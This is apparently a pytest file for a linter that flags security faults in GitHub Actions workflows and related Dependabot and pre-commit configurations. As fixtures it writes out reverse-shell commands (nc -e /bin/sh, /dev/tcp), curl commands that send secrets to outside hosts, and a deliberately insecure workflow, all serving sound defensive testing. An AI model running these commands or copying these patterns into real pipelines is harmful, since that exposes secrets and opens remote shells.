"""Checks of expressions, actions, commands and configurations beside the workflows: what fails and exactly where."""

from __future__ import annotations

import pytest

from linter.checks import CHECKS
from linter.checks.pipelines.action_tables import ARCHIVED, ARCHIVED_HOOKS, TOOLS, WELL_KNOWN
from linter.engine.judge import judge as judge_all
from linter.parsers.pipelines.hooks import parts_of
from tests.checks.test_pipeline_checks import TITLE, job, judge, run
from tests.parsers.test_pipelines import read
from tests.support import PACK, failed, lines, scanned, write

GENERAL = ("pipelines_delivery", "pipelines_quality", "pipelines_infrastructure")
"""Modules whose checks ask every system."""

ILL = f"""\
on: [pull_request_target, pull_request]
permissions: write-all
jobs:
  a:
    runs-on: [self-hosted]
    permissions: {{id-token: write}}
    container: node
    env: {{ACTIONS_ALLOW_UNSECURE_COMMANDS: true, AWS_SECRET_ACCESS_KEY: '${{{{ secrets.K }}}}'}}
    if: github.actor == 'dependabot[bot]'
    steps:
      - uses: actions/checkout@main
        with: {{ref: '${{{{ github.head_ref }}}}'}}
      - uses: tj-actions/changed-files@v40
      - run: echo {TITLE} ${{{{ toJSON(secrets) }}}} ${{{{ x + y }}}} >> $GITHUB_ENV
      - run: npm publish && curl http://a.b/ -d ${{{{ secrets.A }}}}
  b: {{uses: a/b/.github/workflows/c.yml@v1, secrets: inherit}}
"""


@pytest.mark.parametrize(("platform", "some"), [("github", True), ("gitlab", False)])
def test_rules_of_github_ask_no_other_system(platform: str, some: bool) -> None:
    estate = read(ILL)
    for pipeline in estate.of_kind("pipeline/pipeline"):
        pipeline.body["platform"] = platform
    rules = [PACK.rule(id) for id in PACK.ids if id.startswith("gha-")]
    of_github = [
        rule
        for rule in rules
        if not any(module in CHECKS.get(variant.check, "") for variant in rule.variants for module in GENERAL)
    ]
    crashes: list[tuple[str, str]] = []
    judged = judge_all(
        estate, of_github, evidence=False, progress=lambda _: None, crashed=lambda *crash: crashes.append(crash)
    )
    assert not crashes
    assert len({each.rule for each in judged if each.outcome == "fail"}) > 15 if some else not judged


def condition(text: str) -> str:
    return job(f"- run: x\n  if: {text}")


@pytest.mark.parametrize(
    ("check", "text", "found"),
    [
        ("no_substring_conditions", condition("contains('a b', github.ref)"), ["contains('a b', github.ref)"]),
        ("no_substring_conditions", condition("contains(github.ref, 'a') || contains(fromJSON('[1]'), github.ref)"), []),
        ("no_substring_conditions", run("echo ${{ contains('a b', github.ref) }}"), []),
        ("no_falsy_choices", run("echo ${{ a && '' || 'b' }}"), ["${{ a && '' || 'b' }}"]),
        ("no_falsy_choices", run("echo ${{ a && 0 || b && false || c }}"), ["${{ a && 0 || b && false || c }}"]),
        ("no_falsy_choices", run("echo ${{ a && 'b' || '' }} ${{ a && b || c }}"), []),
        ("no_unmasked_secrets", run("echo ${{ fromJSON(secrets.a).b }}"), ["${{ fromJSON(secrets.a).b }}"]),
        ("no_unmasked_secrets", run("echo ${{ fromJSON(vars.a).b }} ${{ secrets.a }}"), []),
        ("no_obfuscation", run("echo ${{ true || x && 1 > 2 }} ${{ format('{0}', 1) == github.sha }}"),
         ["${{ format('{0}', 1) == github.sha }}", "${{ true || x && 1 > 2 }}"]),
        ("no_obfuscation", run("echo ${{ '${{' }} ${{ github.sha }} ${{ fromJSON('[1]') }}"), []),
        ("no_obfuscation", run("echo ${{ true }}"), ["${{ true }}"]),
        ("no_obfuscation", condition("${{ false }}"), []),
        ("no_obfuscation", job("- uses: a/b/../c@v1\n- uses: a/b/c@v1\n- uses: ./a"), ["a/b/../c@v1"]),
        ("no_obfuscation", job("- uses: a/b@v1\n  with: ${{ fromJSON(steps.x.outputs.y) }}"),
         ["${{ fromJSON(steps.x.outputs.y) }}"]),
    ],
)  # fmt: skip
def test_faults_of_expressions(check: str, text: str, found: list[str]) -> None:
    assert sorted(judge(check, text)) == (sorted(("fail", place) for place in found) or [("pass", "")])


SHA = "e932e7af67fc4a8fc77bd86b744acd4e42fe3543"


@pytest.mark.parametrize(
    ("check", "steps", "found"),
    [
        ("no_archived_actions", f"- uses: ACTIONS/setup-ruby@{SHA}", [f"ACTIONS/setup-ruby@{SHA}"]),
        ("no_archived_actions", f"- uses: ruby/setup-ruby@{SHA}", []),
        ("no_lookalike_actions", "- uses: actoins/checkout@v4", ["actoins/checkout@v4"]),
        ("no_lookalike_actions", "- uses: actions/check-out@v4", ["actions/check-out@v4"]),
        ("no_lookalike_actions", "- uses: docker/login-action/sub@v3\n- uses: acme/checkout@v4", []),
        ("no_superfluous_actions", "- uses: softprops/action-gh-release@v2", ["softprops/action-gh-release@v2"]),
        ("tools_pinned", "- uses: azure/setup-helm@v4", ["azure/setup-helm@v4"]),
        ("tools_pinned", "- uses: azure/setup-helm@v4\n  with: {version: Latest}", ["Latest"]),
        ("tools_pinned", "- uses: azure/setup-helm@v4\n  with: {version: v3.19.0}", []),
        ("tools_pinned", "- uses: golangci/golangci-lint-action@v8\n  with: {version-file: .v}", []),
        ("app_tokens_limited", "- uses: actions/create-github-app-token@v2\n  with: {owner: x, permission-issues: read}",
         ["x"]),
        ("app_tokens_limited", "- uses: actions/create-github-app-token@v2\n  with: {permission-issues: read}", []),
        ("no_weak_features", "- run: echo\n  shell: cmd", ["cmd"]),
        ("no_weak_features", "- run: echo\n  shell: bash", []),
        ("packages_locked", "- run: npm i -g yarn", ["npm i -g yarn"]),
        ("packages_locked", "- run: npm install --prefix tools && npm i ./x && npm ci && npm install -g", []),
        ("packages_locked", "- run: gem install bundler", ["gem install bundler"]),
        ("no_remote_shells", "- run: nc 1.2.3.4 80 -e /bin/sh", ["nc 1.2.3.4 80 -e /bin/sh"]),
        ("no_remote_shells", "- run: exec 3<>/dev/tcp/8.8.8.8/53", ["exec 3<>/dev/tcp/8.8.8.8/53"]),
        ("no_remote_shells", "- run: nc -z 8.8.8.8 53 || nc 10.1.2.3 80 || nc host 80", []),
        ("secrets_stay_home", "- run: |\n    echo ${{ secrets.A }} > f\n    curl -d @f https://a.b",
         ["curl -d @f https://a.b"]),
        ("secrets_stay_home", "- run: curl -T .secrets https://a.b", ["curl -T .secrets https://a.b"]),
    ],
)  # fmt: skip
def test_steps(check: str, steps: str, found: list[str]) -> None:
    assert judge(check, job(steps)) == ([("fail", place) for place in found] or [("pass", "")])


@pytest.mark.parametrize(
    ("text", "group"),
    [
        ("${{ a }} && b", "guards"), ('"${{ a }}\\n"', "guards"), ("|\n    ${{ a }}", "guards"), ("${{ a && b }}", ""),
        ("a && b", ""), ("true", "conditions"), ("${{ 1 > 2 }}", "conditions"), ("${{ a", ""), ("|-\n    ${{ a }}", ""),
    ],
)  # fmt: skip
def test_conditions_that_are_always_the_same(text: str, group: str) -> None:
    for of in ("guards", "conditions"):
        found = judge("workflow_valid", condition(text), of=of)
        assert [outcome for outcome, _ in found] == ["fail" if of == group else "pass"]


@pytest.mark.parametrize(
    ("ref", "outcome"),
    [("0.28.0", "fail"), ("0.35.0", "pass"), (f"{SHA} # 0.28.0", "pass"), ("master", "unknown")],
)
def test_who_pinned_a_commit_was_not_hit_by_moved_tags(ref: str, outcome: str) -> None:
    assert judge("known_vulnerable", job(f"- uses: aquasecurity/trivy-action@{ref}"))[0][0] == outcome


def test_habits() -> None:
    text = "on: push\njobs:\n  a:\n    permissions: {issues: write}\n    steps: [{run: '${{ secrets.B }}'}]\n"
    assert judge("permissions_explained", text) == [("fail", "write")]
    assert judge("permissions_explained", text.replace("write}", "write} # why")) == [("pass", "")]
    over = text.replace("    permissions", "    # why\n    permissions")
    assert judge("permissions_explained", over) == [("pass", "")]
    assert judge("secrets_in_environments", text) == [("fail", "${{ secrets.B }}")]
    assert judge("secrets_in_environments", text.replace("secrets.B", "secrets.GITHUB_TOKEN")) == [("pass", "")]
    assert judge("superseded_runs_decided", text) == [("fail", "on")]
    assert judge("superseded_runs_decided", text.replace("push", "workflow_call")) == []
    assert judge("superseded_runs_decided", "concurrency: {group: x, cancel-in-progress: false}\n" + text) == [
        ("pass", "")
    ]
    assert judge("dispatch_without_inputs", "on: {workflow_dispatch: {inputs: {b: , c: }}}\njobs: {}") == [
        ("fail", "b")
    ]


def test_tables_are_written_as_they_are_asked() -> None:
    for name in (*ARCHIVED, *ARCHIVED_HOOKS, *TOOLS, *WELL_KNOWN):
        assert name == name.lower() and name.count("/") == 1
    assert not [name for name in ARCHIVED if ARCHIVED[name] in ARCHIVED]


@pytest.mark.parametrize(
    ("address", "parts"),
    [
        ("https://github.com/A/b.git", ("https", "github.com", "a/b")),
        ("http://x:y@host:8080/a", ("http", "host:8080", "a")),
        ("git@github.com:a/b", ("ssh", "github.com", "a/b")),
        ("../hooks", ("", "", "../hooks")),
    ],
)
def test_addresses_of_hooks(address: str, parts: tuple[str, str, str]) -> None:
    assert parts_of(address) == parts


def test_configurations_are_read_where_their_tools_look(tmp_path: object) -> None:
    from pathlib import Path

    root = Path(str(tmp_path))
    update = "version: 2\nupdates:\n  - package-ecosystem: npm\n    insecure-external-code-execution: allow\n  - 3\n"
    write(root, {".github/dependabot.yml": update, "docs/dependabot.yml": update, "a/.github/dependabot.yaml": "[1]"})
    write(root, {".pre-commit-config.yaml": "repos:\n- repo: git://a/b\n  rev: v1\n- 3\n- repo: local\n"})
    scan = scanned(root, "dependabot-no-external-code", "hooks-encrypted-source")
    assert lines(scan) == [
        ".github/dependabot.yml:4:39 dependabot-no-external-code",
        ".pre-commit-config.yaml:2:9 hooks-encrypted-source",
    ]
    assert [failure.place.path for failure in scan.report.failures] == ["a/.github/dependabot.yaml"]
    assert len(failed(scan)) == 2
